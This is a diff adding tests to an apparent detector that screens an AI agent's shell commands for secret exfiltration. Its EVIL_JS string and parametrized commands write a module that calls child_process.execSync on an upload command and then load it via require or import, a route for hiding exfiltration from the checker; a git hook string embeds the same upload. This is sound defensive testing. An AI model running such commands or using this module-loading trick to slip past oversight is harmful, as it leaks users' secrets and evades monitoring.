@@ -530,6 +530,25 @@ def test_an_ordinary_lint_staged_configuration_passes(tree):
     assert [a for a in actions if a.program == "eslint"] and not [a for a in actions if a.dynamic or a.code.unread]
 
 
+EVIL_JS = "require(\"child_process\").execSync(\"" + UPLOAD + "\")"
+
+
+@pytest.mark.parametrize("command", [
+    f"printf '{EVIL_JS}' > lib.js && node -e \"require('./lib')\"",
+    f"mkdir -p lib && printf '{EVIL_JS}' > lib/index.js && node app.js",
+    f"printf '{EVIL_JS}' > lib.mjs && node --input-type=module -e \"import './lib.mjs'\"",
+    f"printf '{EVIL_JS}' > lib.js && node -e \"import('./lib.js')\"",
+])
+def test_a_module_the_agent_wrote_runs_when_required(tree, command):
+    tree.write("app.js", "const lib = require('./lib');\nconsole.log(lib)\n")
+    assert sends_secret([a for a in tree.call("Bash", command=command).actions if not a.deferred]), command
+
+
+def test_the_repositorys_own_required_modules_are_not_followed(tree):
+    tree.write("lib.js", f"{EVIL_JS}\n")
+    assert not sends_secret(tree.shell("touch notes.txt && node -e \"require('./lib'); require('./package.json')\""))
+
+
 # -- git ----------------------------------------------------------------------------------------
 
 HOOK = f"#!/bin/sh\n{UPLOAD}\n"
